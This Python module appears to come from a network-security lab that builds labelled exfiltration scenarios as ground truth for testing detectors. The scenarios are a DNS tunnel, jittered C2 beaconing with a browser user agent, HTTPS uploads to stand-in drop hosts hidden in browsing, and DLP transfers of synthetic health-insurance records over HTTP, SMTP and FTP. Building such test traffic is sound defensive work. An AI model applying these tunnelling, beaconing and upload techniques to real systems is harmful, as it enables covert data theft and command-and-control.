"""The exfiltration scenarios of scenarios.py, one function each; each returns its ground truth.

Every function starts its own filtered capture, runs real tools inside the namespaces,
stops the capture and returns {"capture", "events", "summary", "pcap_full"}. Events are
make_demo-style records (exact 5-tuple, the tool's own byte counts); the summary is the
scenario's ground truth in the terms a detection reports.
"""

from __future__ import annotations

import dataclasses
import json
import os
import random
import subprocess
import threading
import time
from pathlib import Path

import dlpdata
import pcapstats
from labnet import host, in_ns
from labscen import (C2_NAME, FTP_NAME, INTAKE_NAME, MX_NAME, ONLY_WS1, ONLY_WS2, TUNNEL_ZONE, Capture,
                     interval_stats, stop_labelled, wire_of)
from make_demo import LAB_DIR, PY, Ctx, curl, dig
from truth import Truth

SHOP, CDN, DROP = "www.example-shop.test", "cdn.example-media.test", "upload.files-drop.test"
BROWSE = [f"http://{SHOP}/", f"https://{SHOP}/products.html", f"https://{SHOP}/about.html",
          f"http://{CDN}/css/site.css", f"https://{CDN}/js/app.js", f"https://{CDN}/img/banner.jpg"]
BROWSE += [f"https://{SHOP}/category-{i}.html" for i in range(1, 7)]
BROWSE += [f"https://{CDN}/img/product-{i}.jpg" for i in range(1, 7)]
C2_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"

TUNNEL_FILE_BYTES = 180_000
UPLOAD_PARTS, UPLOAD_PART_BYTES = 4, 2_000_000
BIG_UPLOAD_BYTES = 21_000_000


def _fresh(ctx: Ctx) -> Ctx:
    return dataclasses.replace(ctx, truth=Truth())


def _finish(ctx: Ctx, cap: Capture, summary: dict) -> dict:
    conns = pcapstats.connections(cap.pcap)
    wire_of(conns, ctx.truth.scenarios)
    return {"capture": cap.info, "summary": summary, "events": ctx.truth.scenarios, "pcap_full": cap.pcap,
            "conns": conns}


def _browse(ctx: Ctx, sid: str, client: str, url: str) -> dict:
    return curl(ctx, sid, client, url, kind="download" if url.endswith((".jpg", ".mp4", ".js")) else "http_get")


# ---- 1. DNS tunnel ------------------------------------------------------------------------------------


def dns_tunnel(ctx: Ctx, rng: random.Random, state: Path) -> dict:
    ctx = _fresh(ctx)
    f = ctx.work / "tunnel" / "backup-2024.7z"
    f.parent.mkdir(exist_ok=True)
    data = rng.randbytes(TUNNEL_FILE_BYTES)  # random like a compressed archive; seeded, so reproducible
    f.write_bytes(data)
    cap = Capture(ctx.lab, "dns-tunnel", ONLY_WS1)
    time.sleep(1)
    dig(ctx, "lookup-shop", "ws1", SHOP)
    _browse(ctx, "web-1", "ws1", f"https://{SHOP}/")
    client = ctx.lab.spawn_piped("ws1", [PY, str(LAB_DIR / "labdns.py"), "send", "--file", str(f), "--zone",
                                         TUNNEL_ZONE, "--gap", "0.02", "--seed", str(rng.randrange(1 << 30))],
                                 "tunnel-client")
    normal = [(SHOP, "dig"), (f"https://{CDN}/", "curl"), (CDN, "dig"), (f"https://{SHOP}/products.html", "curl"),
              ("intranet.lab.test", "dig"), (f"http://{CDN}/css/site.css", "curl")]
    i = 0
    while client.poll() is None:  # ordinary look-ups and page views while the tunnel runs
        time.sleep(4)
        what, tool = normal[i % len(normal)]
        if client.poll() is None:
            dig(ctx, f"lookup-{i + 2}", "ws1", what) if tool == "dig" else _browse(ctx, f"web-{i + 2}", "ws1", what)
            i += 1
    stats = json.loads(client.stdout.read().strip().splitlines()[-1])
    time.sleep(1)
    _browse(ctx, "web-last", "ws1", f"https://{CDN}/img/banner.jpg")
    cap.stop()
    stop_labelled(ctx.lab, "labdns")  # it writes what it received
    server = json.loads(state.read_text())
    out = _finish(ctx, cap, {})
    conns = out["conns"]
    fwd = [(k, c) for k, c in conns.items() if k[0] == pcapstats.UDP and k[3] == host("tdns").ip]
    sess = server["sessions"][stats["session"]]
    n = stats["queries_sent"]
    out["summary"] = {
        "client": "ws1", "client_ip": stats["client_ip"], "client_port": stats["client_port"],
        "resolver_ip": stats["server_ip"], "authoritative_server_ip": host("tdns").ip,
        "tunnel_domain": TUNNEL_ZONE, "registered_domain": "exfil-tunnel.test",
        "encoding": "base32 (RFC 4648, lower case, no padding), 115 file bytes per query in 3 labels "
                    "(63+63+58 chars), then <seq hex>.<session>." + TUNNEL_ZONE,
        "start": stats["start"], "end": stats["end"], "duration_s": round(stats["end"] - stats["start"], 3),
        "file_bytes": stats["file_bytes"], "file_sha256": stats["file_sha256"],
        "file_received_intact": sess["sha256"] == stats["file_sha256"] and sess["bytes"] == stats["file_bytes"],
        "queries": n, "unique_query_names": stats["unique_query_names"],
        "unique_subdomains": stats["unique_query_names"], "data_queries": stats["data_queries"],
        "retransmissions": stats["retransmissions"], "unanswered": stats["unanswered"],
        "qtypes": stats["qtypes"], "rcodes": stats["rcodes"],
        "query_name_bytes": stats["query_name_chars"],
        "query_name_bytes_mean": round(stats["query_name_chars"] / n, 2),
        "subdomain_bytes": stats["subdomain_chars"],
        "byte_counts_note": "query_name_bytes = sum over all queries of the name's text length without the "
                            "trailing dot; subdomain_bytes = the same for the part left of '." + TUNNEL_ZONE + "'; "
                            "wire bytes = whole DNS messages (UDP payload)",
        "query_wire_bytes": stats["query_wire_bytes"], "response_wire_bytes": stats["response_wire_bytes"],
        "queries_per_second": round(n / (stats["end"] - stats["start"]), 2),
        "client_socket": "one UDP socket for the whole transfer: all tunnel queries of ws1 share one 5-tuple",
        "forwarded_leg": {"client_ip": host("srv").ip, "server_ip": host("tdns").ip, "server_port": 53,
                          "udp_5tuples": len(fwd), "queries_seen_by_server": server["queries"],
                          "queries_by_source": server["clients"],
                          "payload_to_server": sum(c["payload_c2s"] for _, c in fwd),
                          "payload_from_server": sum(c["payload_s2c"] for _, c in fwd)},
    }
    return out


# ---- 2. beacon ------------------------------------------------------------------------------------


def _noise(ctx: Ctx, rng: random.Random, stop: threading.Event, mean_gap: float) -> None:
    i = 0
    while not stop.wait(rng.expovariate(1 / mean_gap)):
        i += 1
        url = rng.choice(BROWSE[:12])  # pages, css, js, the banner: no big files
        _browse(ctx, f"noise-{i}", "ws2", url)


def beacon(ctx: Ctx, rng: random.Random, duration: float, interval: float, jitter: float,
           abort: threading.Event) -> dict:
    ctx, noise_ctx = _fresh(ctx), _fresh(ctx)
    cap = Capture(ctx.lab, "beacon", ONLY_WS2)
    stop = threading.Event()
    noise = threading.Thread(target=_noise, args=(noise_ctx, random.Random(rng.random()), stop, 45.0), daemon=True)
    noise.start()
    bot_id = "%016x" % rng.getrandbits(64)
    t0 = time.time() + 2
    planned, k, t = [], 0, t0
    try:
        while t < t0 + duration and not abort.is_set():
            while time.time() < t and not abort.is_set():
                time.sleep(0.05)
            k += 1
            planned.append(t)
            body = json.dumps({"id": bot_id, "seq": k, "st": "idle", "q": rng.randrange(1000)})
            curl(ctx, f"beacon-{k}", "ws2", f"https://{C2_NAME}/api/v2/checkin", kind="beacon", ua=C2_UA,
                 tags=("beacon",), extra=("--data-binary", body, "-H", "Content-Type: application/json"))
            t += interval * rng.uniform(1 - jitter, 1 + jitter)
    finally:
        stop.set()
        noise.join(timeout=40)
    time.sleep(1)
    cap.stop()
    ctx.truth.scenarios += noise_ctx.truth.scenarios
    out = _finish(ctx, cap, {})
    beacons = [e for e in out["events"] if e["kind"] == "beacon"]
    syns = [e["wire"]["syn"] for e in beacons]
    sent = [e["client_sent"]["total"] for e in beacons]
    recv = [e["client_received"]["total"] for e in beacons]
    wire_up = [e["wire"]["payload_client_to_server"] for e in beacons]
    wire_down = [e["wire"]["payload_server_to_client"] for e in beacons]
    noise_ev = [e for e in out["events"] if e["id"].startswith("noise-")]
    out["summary"] = {
        "client": "ws2", "client_ip": host("ws2").ip, "server_ip": host("c2").ip, "server_port": 443,
        "server_name": C2_NAME, "transport": "tcp", "protocol": "https",
        "beacons": len(beacons), "connections": len(beacons),
        "schedule": {"interval_s": interval, "jitter": f"uniform +-{round(jitter * 100)} % of the interval",
                     "duration_s": duration},
        "planned_intervals": interval_stats(planned),
        "syn_intervals": interval_stats(syns),
        "first_syn": syns[0], "last_syn": syns[-1],
        "request": {"http_method": "POST", "url": f"https://{C2_NAME}/api/v2/checkin", "user_agent": C2_UA,
                    "curl_bytes_sent_min": min(sent), "curl_bytes_sent_max": max(sent),
                    "curl_bytes_received_min": min(recv), "curl_bytes_received_max": max(recv),
                    "wire_payload_up_min": min(wire_up), "wire_payload_up_max": max(wire_up),
                    "wire_payload_down_min": min(wire_down), "wire_payload_down_max": max(wire_down)},
        "bytes_total": {"curl_sent": sum(sent), "curl_received": sum(recv),
                        "wire_payload_up": sum(wire_up), "wire_payload_down": sum(wire_down)},
        "noise": {"page_views": len(noise_ev), "mean_gap_s": 45.0,
                  "destinations": sorted({e["server_name"] for e in noise_ev})},
        "dns": "every beacon and page view resolves its name first (A + AAAA at 10.10.0.20)",
    }
    return out


# ---- 3. HTTPS bulk upload hidden in browsing ---------------------------------------------------------


def https_upload(ctx: Ctx, rng: random.Random) -> dict:
    ctx = _fresh(ctx)
    parts = []
    for i in range(1, UPLOAD_PARTS + 1):
        p = ctx.work / "upload" / f"archive.part{i}"
        p.write_bytes(rng.randbytes(UPLOAD_PART_BYTES))
        parts.append(p)
    views = BROWSE + [f"https://{CDN}/video/clip-1.mp4"] + rng.sample(BROWSE, 8)
    rng.shuffle(views)
    posts_at = sorted(rng.sample(range(2, len(views)), UPLOAD_PARTS))
    cap = Capture(ctx.lab, "https-upload", ONLY_WS1)
    time.sleep(1)
    n_post = 0
    for i, url in enumerate(views):
        _browse(ctx, f"web-{i + 1}", "ws1", url)
        time.sleep(rng.uniform(0.3, 1.5))
        if i in posts_at:
            p = parts[n_post]
            n_post += 1
            curl(ctx, f"upload-{n_post}", "ws1", f"https://{DROP}/api/upload", kind="upload", ua=None,
                 extra=("-F", f"file=@{p};type=application/octet-stream"), tags=("outbound_bulk",),
                 file_bytes=p.stat().st_size, note="2 MB random part as multipart/form-data over HTTPS")
            time.sleep(rng.uniform(0.3, 1.5))
    time.sleep(1)
    cap.stop()
    out = _finish(ctx, cap, {})
    per_dest: dict[str, dict] = {}
    for e in out["events"]:
        d = per_dest.setdefault(e["server_name"], {"server_ip": e["server_ip"], "connections": 0, "curl_sent": 0,
                                                   "curl_received": 0, "wire_payload_up": 0, "wire_payload_down": 0})
        d["connections"] += 1
        d["curl_sent"] += e["client_sent"]["total"]
        d["curl_received"] += e["client_received"]["total"]
        d["wire_payload_up"] += e["wire"]["payload_client_to_server"]
        d["wire_payload_down"] += e["wire"]["payload_server_to_client"]
    for d in per_dest.values():
        d["tls_overhead_up"] = d["wire_payload_up"] - d["curl_sent"]
        d["tls_overhead_down"] = d["wire_payload_down"] - d["curl_received"]
    ups = [e for e in out["events"] if e["kind"] == "upload"]
    out["summary"] = {
        "client": "ws1", "client_ip": host("ws1").ip, "upload_destination": {"name": DROP, "ip": host("drop").ip,
                                                                             "port": 443},
        "upload_posts": len(ups), "upload_file_bytes": sum(e["file_bytes"] for e in ups),
        "upload_curl_body_bytes": sum(e["client_sent"]["body"] for e in ups),
        "upload_curl_sent_bytes": sum(e["client_sent"]["total"] for e in ups),
        "page_views_and_downloads": len(out["events"]) - len(ups),
        "per_destination": per_dest,
        "tls_overhead_tolerance": "wire payload (TCP, what NFStream/Zeek count) = curl's count + TLS overhead: "
                                  "handshake about 0.5-1.9 KB per connection and direction plus 22 bytes per TLS "
                                  "record (<= 16 KB); test with curl <= wire <= curl + 2500 + curl/200 per "
                                  "connection (the demo's bound); measured values are in per_destination",
    }
    return out


# ---- 3b. One big upload to a destination never contacted before ---------------------------------------


def big_upload(ctx: Ctx, rng: random.Random) -> dict:
    """ws1 views a few pages, then sends 21 MB in one HTTPS connection to a name no host asked before."""
    ctx = _fresh(ctx)
    p = ctx.work / "upload" / "backup-2024.tar"
    p.parent.mkdir(exist_ok=True)
    p.write_bytes(rng.randbytes(BIG_UPLOAD_BYTES))
    views = rng.sample(BROWSE, 6)
    cap = Capture(ctx.lab, "big-upload", ONLY_WS1)
    time.sleep(1)
    for i, url in enumerate(views):
        _browse(ctx, f"web-{i + 1}", "ws1", url)
        time.sleep(rng.uniform(0.3, 1.5))
    ev = curl(ctx, "upload-1", "ws1", f"https://{INTAKE_NAME}/upload", kind="upload", ua=None,
              # paced at 4 MB/s: unpaced, tcpdump on the busy lab bridge drops packets
              extra=("--limit-rate", "4M", "-F", f"file=@{p};type=application/x-tar"), tags=("outbound_bulk",),
              file_bytes=p.stat().st_size, note="21 MB random file as multipart/form-data, one HTTPS connection")
    time.sleep(1)
    cap.stop()
    out = _finish(ctx, cap, {})
    up = out["events"][-1]
    out["summary"] = {
        "client": "ws1", "client_ip": host("ws1").ip,
        "upload_destination": {"name": INTAKE_NAME, "ip": host("intake").ip, "port": 443},
        "upload_connections": 1, "upload_file_bytes": ev["file_bytes"],
        "upload_curl_sent_bytes": up["client_sent"]["total"],
        "upload_wire_payload_up": up["wire"]["payload_client_to_server"],
        "page_views": len(views),
        "destination_first_contact": "the upload is the first and only connection of any internal host to "
                                     f"{INTAKE_NAME} in the capture",
    }
    return out


# ---- 4. DLP over cleartext channels, and over TLS -------------------------------------------------


def _tool_event(ctx: Ctx, sid: str, kind: str, tool: str, proto: str, name: str, r: dict, client_port: int,
                server_port: int, **more) -> dict:
    return ctx.truth.add(id=sid, kind=kind, tool=tool, client="ws1", client_ip=r["client_ip"],
                         client_port=client_port, server_name=name, server_ip=r["server_ip"],
                         server_port=server_port, transport="tcp", protocol=proto, start=r["start"], end=r["end"],
                         dns_names=[name], **more)


CORE = ("kvnr_valid_distinct", "kvnr_valid_occurrences", "kvnr_invalid_check_digit_distinct", "iban_valid_distinct",
        "iban_valid_occurrences", "iban_invalid_check_digits_distinct")


def _channel(ev: dict, carrier: str, expected: dict) -> dict:
    w = ev.get("wire", {})
    return {"channel": ev["protocol"], "event": ev["id"], "destination": {"name": ev["server_name"],
            "ip": ev["server_ip"], "port": ev["server_port"]}, "client_ip": ev["client_ip"],
            "client_port": ev["client_port"], "carrier": carrier,
            "wire_payload_client_to_server": w.get("payload_client_to_server"),
            "identifiers_expected": {k: expected[k] for k in CORE if k in expected},
            "other_categories": "as in summary.content (the whole CSV crosses this channel once)"}


def dlp(ctx: Ctx, csv_path: Path, expected: dict, states: dict[str, Path]) -> dict:
    ctx = _fresh(ctx)
    cap = Capture(ctx.lab, "dlp", ONLY_WS1)
    time.sleep(1)
    _browse(ctx, "web-1", "ws1", f"http://{SHOP}/")
    http = curl(ctx, "dlp-http", "ws1", f"http://{INTAKE_NAME}/upload", kind="upload", ua=None,
                extra=("-F", f"file=@{csv_path};type=text/csv"), tags=("dlp",))
    time.sleep(1)
    r = json.loads(in_ns("ws1", PY, str(LAB_DIR / "labsinks.py"), "smtp-send", "--host", MX_NAME,
                         "--file", str(csv_path)).stdout.strip().splitlines()[-1])
    smtp = _tool_event(ctx, "dlp-smtp", "mail", "smtplib", "smtp", MX_NAME, r, r["client_port"], 25, tags=["dlp"],
                       client_sent={"total": r["client_sent_total"], "message": r["message_bytes"]},
                       attachment_bytes=r["attachment_bytes"])
    time.sleep(1)
    r = json.loads(in_ns("ws1", PY, str(LAB_DIR / "labsinks.py"), "ftp-put", "--host", FTP_NAME,
                         "--file", str(csv_path)).stdout.strip().splitlines()[-1])
    _tool_event(ctx, "dlp-ftp-control", "ftp_control", "ftplib", "ftp", FTP_NAME, r, r["client_port"], 21,
                client_sent={"total": r["control_client_sent"]})
    ftp = _tool_event(ctx, "dlp-ftp-data", "upload", "ftplib", "ftp-data", FTP_NAME, r, r["data_client_port"],
                      r["data_server_port"], tags=["dlp"], client_sent={"total": r["file_bytes"]})
    time.sleep(1)
    _browse(ctx, "web-2", "ws1", f"https://{CDN}/")
    cap.stop()
    for label in ("smtp", "ftp"):
        stop_labelled(ctx.lab, label)
    mail = json.loads(states["mx"].read_text())[-1]["messages"][-1]["attachments"][0]
    stored = json.loads(states["ftp"].read_text())[-1]["files"][-1]
    out = _finish(ctx, cap, {})
    out["summary"] = {
        "client": "ws1", "client_ip": host("ws1").ip, "content": expected,
        "channels": [
            _channel(http, "multipart/form-data POST body, cleartext HTTP", expected),
            _channel(smtp, f"MIME attachment text/csv, Content-Transfer-Encoding {mail['cte']}; "
                           f"received intact: {mail['sha256'] == expected['csv_sha256']}", expected),
            _channel(ftp, "FTP passive-mode data connection (STOR, binary), raw bytes; control on port 21; "
                          f"received intact: {stored['sha256'] == expected['csv_sha256']}", expected),
        ],
        "received_intact": {"smtp": mail["sha256"] == expected["csv_sha256"],
                            "ftp": stored["sha256"] == expected["csv_sha256"]},
    }
    return out


def dlp_tls(ctx: Ctx, csv_path: Path, expected: dict) -> dict:
    ctx = _fresh(ctx)
    cap = Capture(ctx.lab, "dlp-tls", ONLY_WS1)
    time.sleep(1)
    ev = curl(ctx, "dlp-https", "ws1", f"https://{INTAKE_NAME}/upload", kind="upload", ua=None,
              extra=("-F", f"file=@{csv_path};type=text/csv"), tags=("dlp_negative",))
    time.sleep(1)
    cap.stop()
    out = _finish(ctx, cap, {})
    ch = _channel(ev, "multipart/form-data POST body inside TLS 1.3", {k: 0 for k in CORE})
    ch["other_categories"] = "none visible: every category of summary.content is inside TLS"
    out["summary"] = {"client": "ws1", "client_ip": host("ws1").ip, "channels": [ch],
                      "content_before_encryption": expected,
                      "expected_findings": "none from payload inspection: the CSV crosses the wire only encrypted"}
    return out


def make_exports(out: Path, csv_path: Path) -> dict[str, Path]:
    """The CSV loaded into SQLite with the sqlite3 shell (.import), then exported by real tools:
    sqlite3 .mode json; a zip (zip -9) of the .mode csv, .mode insert and .mode markdown exports;
    a tar.gz (tar czf) of .dump."""
    out.mkdir(parents=True, exist_ok=True)
    db = out / "kasse.db"
    subprocess.run(["sqlite3", "-cmd", ".mode csv", "-cmd", ".separator ;", str(db),
                    f".import {csv_path} versicherte"], check=True, timeout=60)

    def export(mode: str, name: str, table: str = "") -> Path:
        path = out / name
        r = subprocess.run(["sqlite3", "-cmd", ".headers on", "-cmd", f".mode {mode} {table}".strip(), str(db),
                            "SELECT * FROM versicherte"], check=True, capture_output=True, timeout=60)
        path.write_bytes(r.stdout)
        return path

    files = {"json": export("json", "versicherte.json")}
    parts = [export("csv", "versicherte.csv").name, export("insert", "versicherte.sql", "versicherte").name,
             export("markdown", "versicherte.md").name]
    subprocess.run(["zip", "-q", "-9", "exporte.zip", *parts], cwd=out, check=True, timeout=60)
    files["zip"] = out / "exporte.zip"
    (out / "dump.sql").write_bytes(subprocess.run(["sqlite3", str(db), ".dump"], check=True, capture_output=True,
                                                  timeout=60).stdout)
    subprocess.run(["tar", "czf", "dump.tar.gz", "dump.sql"], cwd=out, check=True, timeout=60)
    files["tgz"] = out / "dump.tar.gz"
    for p in files.values():
        os.chmod(p, 0o644)
    os.chmod(out, 0o755)
    return files


def dlp_exports(ctx: Ctx, csv_path: Path, expected: dict, states: dict[str, Path]) -> dict:
    """The same records as exports written by real tools: sqlite3 JSON over HTTP, a zip of
    sqlite3 CSV/INSERT/markdown exports as an SMTP attachment, a tar.gz of a .dump over FTP."""
    ctx = _fresh(ctx)
    files = make_exports(ctx.work / "exports", csv_path)
    cap = Capture(ctx.lab, "dlp-exports", ONLY_WS1)
    time.sleep(1)
    http = curl(ctx, "exports-http", "ws1", f"http://{INTAKE_NAME}/upload", kind="upload", ua=None,
                extra=("-F", f"file=@{files['json']};type=application/json"), tags=("dlp",))
    time.sleep(1)
    r = json.loads(in_ns("ws1", PY, str(LAB_DIR / "labsinks.py"), "smtp-send", "--host", MX_NAME,
                         "--file", str(files["zip"]), "--type", "application/zip").stdout.strip().splitlines()[-1])
    smtp = _tool_event(ctx, "exports-smtp", "mail", "smtplib", "smtp", MX_NAME, r, r["client_port"], 25,
                       tags=["dlp"], client_sent={"total": r["client_sent_total"], "message": r["message_bytes"]},
                       attachment_bytes=r["attachment_bytes"])
    time.sleep(1)
    r = json.loads(in_ns("ws1", PY, str(LAB_DIR / "labsinks.py"), "ftp-put", "--host", FTP_NAME,
                         "--file", str(files["tgz"])).stdout.strip().splitlines()[-1])
    _tool_event(ctx, "exports-ftp-control", "ftp_control", "ftplib", "ftp", FTP_NAME, r, r["client_port"], 21,
                client_sent={"total": r["control_client_sent"]})
    ftp = _tool_event(ctx, "exports-ftp-data", "upload", "ftplib", "ftp-data", FTP_NAME, r, r["data_client_port"],
                      r["data_server_port"], tags=["dlp"], client_sent={"total": r["file_bytes"]})
    time.sleep(1)
    cap.stop()
    for label in ("smtp", "ftp"):
        stop_labelled(ctx.lab, label)
    out = _finish(ctx, cap, {})
    distinct = {k: expected[k] for k in ("kvnr_valid_distinct", "iban_valid_distinct", "ik_valid_distinct",
                                         "icd10_codes_distinct")}
    sizes = {k: p.stat().st_size for k, p in files.items()}
    out["summary"] = {
        "client": "ws1", "client_ip": host("ws1").ip, "content": expected, "files": sizes,
        "channels": [
            dict(_channel(http, "sqlite3 .mode json export, multipart/form-data POST body, cleartext HTTP", expected),
                 identifiers_expected=distinct),
            dict(_channel(smtp, "zip -9 of sqlite3 .mode csv, .mode insert and .mode markdown exports, MIME "
                                "attachment application/zip, base64", expected), identifiers_expected=distinct),
            dict(_channel(ftp, "tar czf of sqlite3 .dump (CREATE TABLE + INSERT without column list), "
                               "FTP passive STOR", expected), identifiers_expected=distinct),
        ],
    }
    return out


def dlp_expected(seed: int) -> tuple[bytes, dict]:
    """The CSV and what a correct DLP scan of it reports (counts only)."""
    data, c = dlpdata.describe(seed)
    flat = {"rows": c["rows"],
            "kvnr_valid_distinct": c["kvnr_valid"]["distinct"], "kvnr_valid_occurrences": c["kvnr_valid"]["occurrences"],
            "kvnr_invalid_check_digit_distinct": c["kvnr_invalid_check_digit"]["distinct"],
            "iban_valid_distinct": c["iban_valid"]["distinct"], "iban_valid_occurrences": c["iban_valid"]["occurrences"],
            "iban_invalid_check_digits_distinct": c["iban_invalid_check_digits"]["distinct"],
            "iban_written_in_groups_of_4": c["iban_written_in_groups_of_4"],
            "kvnr_shaped_order_numbers_invalid_distinct": c["kvnr_shaped_order_numbers_invalid"]["distinct"],
            "random_digit_strings_12_15_distinct": c["random_digit_strings_12_15"]["distinct"],
            "ik_valid_distinct": c["ik_valid"]["distinct"], "icd10_codes_distinct": c["icd10_codes"]["distinct"],
            "icd10_codes_occurrences": c["icd10_codes"]["occurrences"],
            "dates_of_birth_distinct": c["dates_of_birth_dd_mm_yyyy"]["distinct"],
            "email_addresses_distinct": c["email_addresses"]["distinct"],
            "person_names_distinct": c["person_names"]["distinct"],
            "regex_view": c["regex_view"], "csv_bytes": c["csv_bytes"], "csv_sha256": c["csv_sha256"]}
    return data, flat
